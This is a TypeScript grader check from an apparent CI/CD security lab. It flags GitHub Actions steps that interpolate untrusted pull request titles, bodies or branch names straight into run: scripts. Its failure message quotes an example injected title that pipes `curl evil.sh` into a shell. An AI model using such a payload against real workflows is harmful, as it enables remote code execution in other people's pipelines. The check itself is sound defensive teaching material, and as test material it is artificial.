import { defineCheck, fail, pass } from '@mlops-lab/grader/authoring';
import { isModel, validWorkflow } from '../../_shared/workflow.ts';
import { FILE, UNTRUSTED } from './shared.ts';

export default defineCheck({
  id: 'run-scripts-do-not-interpolate-untrusted-input',
  title: 'No run: script (or github-script) pastes a title, branch name or comment into its code',
  needs: ['workflow-is-valid'],
  hint: 'Pass untrusted values through `env:` (`TITLE: ${{ github.event.pull_request.title }}`) and use "$TITLE" in the script.',
  async run(ctx) {
    // Mirrors: the script-injection review in GitHub's security hardening guide (zizmor's template-injection audit).
    const model = await validWorkflow(ctx, FILE);
    if (!isModel(model)) return model;
    const problems: string[] = [];
    for (const job of model.jobs) {
      for (const step of job.steps) {
        const places: [string, string | undefined][] = [
          ['run', step.run],
          ['with.script', step.uses?.startsWith('actions/github-script@') ? String(step.with.script ?? '') : undefined],
        ];
        for (const [key, text] of places) {
          const found = [...new Set([...(text ?? '').matchAll(new RegExp(UNTRUSTED, 'g'))].map((m) => m[0]))];
          if (found.length > 0) {
            problems.push(
              `${model.where(['jobs', job.id, 'steps', step.index, ...key.split('.')])}: job ${job.id}, step "${step.label}" pastes ${found.join(' and ')} into the script`,
            );
          }
        }
      }
    }
    if (problems.length === 0)
      return pass('No script interpolates text an outsider controls; untrusted values arrive as environment variables.');
    return fail({
      message:
        'GitHub replaces ${{ }} before the shell starts, so a pull request titled `"; curl evil.sh | sh; "` becomes part of the script. Values an outsider writes must reach the script as data (an environment variable), never as code.',
      expected: 'no ${{ github.event.…title/body/ref… }} or ${{ github.head_ref }} inside run: or a github-script script:',
      actual: problems.join('\n'),
      hint: `In ${FILE}: \`env:\\n  TITLE: \${{ github.event.pull_request.title }}\` on the step and \`"$TITLE"\` in the script, then \`mlops-lab check cicd/04\`.`,
    });
  },
});
